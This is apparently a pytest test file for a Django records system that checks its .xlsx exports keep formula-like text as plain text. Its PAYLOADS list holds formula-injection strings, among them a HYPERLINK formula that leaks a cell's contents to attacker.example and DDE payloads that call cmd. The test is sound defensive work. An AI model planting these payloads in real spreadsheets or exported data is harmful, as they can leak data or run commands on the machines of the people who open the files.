"""Formula injection: text from the registries that a spreadsheet could read as a formula ("=HYPERLINK(…)",
"+…", "-…", "@…") stays text in every .xlsx the system writes — list exports, the programme's appendices, the
consolidated report, the proposal templates — opened here with openpyxl as Excel would read the file."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from doingoai.delegations.models import DelegationStatus, Direction
from doingoai.documents.xlsx import write_table
from doingoai.programs.exports import appendix_xlsx
from doingoai.reporting import exports as report_exports
from doingoai.reporting.consolidation import consolidate
from doingoai.reporting.selectors import SYSTEM
from tests.factories import DelegationFactory, EventFactory, PartnerFactory, UnitFactory
from tests.reporting.factories import ReportingPeriodFactory

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")',
    "+41 21 000 00 00+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def cells_with(data: bytes, text: str) -> list:
    """Every cell of the workbook whose value contains `text`."""
    wb = load_workbook(io.BytesIO(data))
    return [
        c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str) and text in c.value
    ]


def assert_text(cell, payload: str) -> None:
    assert cell.data_type == "s", (cell.coordinate, cell.data_type)  # a string, not a formula ("f")
    assert cell.value == payload  # shown exactly as written …
    assert cell.quotePrefix  # … and kept as text even when someone edits the cell in Excel


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_table_writer_keeps_formula_like_text_as_text(payload):
    out = io.BytesIO()
    write_table(out, title="Danh sách", headers=["Tên", "Số"], rows=[[payload, -5], ["Bình thường\x0b", 3]])
    wb = load_workbook(io.BytesIO(out.getvalue()))
    ws = wb.active
    assert_text(ws["A2"], payload)
    assert ws["B2"].value == -5 and ws["B2"].data_type == "n"  # real numbers stay numbers
    assert ws["A3"].value == "Bình thường "  # a control character cannot break it


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_after_many_numbers_stays_text(payload):
    """Column formats are chosen from the first rows: a column of numbers whose 300th cell is text still keeps it."""
    out = io.BytesIO()
    rows = [[i] for i in range(300)] + [[payload]]
    assert write_table(out, title="Số", headers=["Số"], rows=rows) == 301
    ws = load_workbook(io.BytesIO(out.getvalue())).active
    assert ws["A2"].value == 0 and ws["A2"].data_type == "n"
    assert_text(ws["A302"], payload)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("url", "make"),
    [
        ("/delegations/?export=xlsx", lambda unit, p: DelegationFactory(name=p, proposing_unit=unit)),
        ("/partners/?export=xlsx", lambda unit, p: PartnerFactory(name=p)),
        ("/events/?export=xlsx", lambda unit, p: EventFactory(title=p, organising_unit=unit)),
    ],
    ids=["delegations", "partners", "events"],
)
def test_list_exports(client_for, users, url, make):
    for payload in PAYLOADS:
        make(users["officer1"].unit, payload)
    response = client_for("coordinator").get(url)
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    for payload in PAYLOADS:
        found = cells_with(data, payload)
        assert found, payload
        for cell in found:
            assert_text(cell, payload)


@pytest.mark.django_db
def test_programme_appendix_export(users):
    for payload in PAYLOADS:
        DelegationFactory(
            name=payload,
            year=2027,
            direction=Direction.OUT,
            status=DelegationStatus.IN_PLAN,
            proposing_unit=users["officer1"].unit,
        )
    data = appendix_xlsx(year=2027, number="1").content
    for payload in PAYLOADS:
        found = cells_with(data, payload)
        assert found, payload
        for cell in found:
            assert cell.data_type == "s" and cell.quotePrefix and payload in cell.value


@pytest.mark.django_db
def test_consolidated_report_export(users):
    units = [UnitFactory(name=payload) for payload in PAYLOADS]
    pasted = UnitFactory(name="Sở Tư pháp\x0b")  # a vertical tab pasted from Word used to crash the export
    period = ReportingPeriodFactory(units=[*units, pasted])
    data = report_exports.consolidated_xlsx(consolidate(period=period, user=SYSTEM))
    assert cells_with(data, "Sở Tư pháp ")
    for payload in PAYLOADS:
        found = cells_with(data, payload)
        assert found, payload
        for cell in found:
            assert_text(cell, payload)


@pytest.mark.django_db
def test_proposal_template_lists(client_for, users):
    UnitFactory(name=PAYLOADS[0])
    response = client_for("officer1").get("/imports/proposals/delegations_out/template/")
    assert response.status_code == 200
    found = cells_with(response.content, PAYLOADS[0])
    assert found
    for cell in found:
        assert_text(cell, PAYLOADS[0])
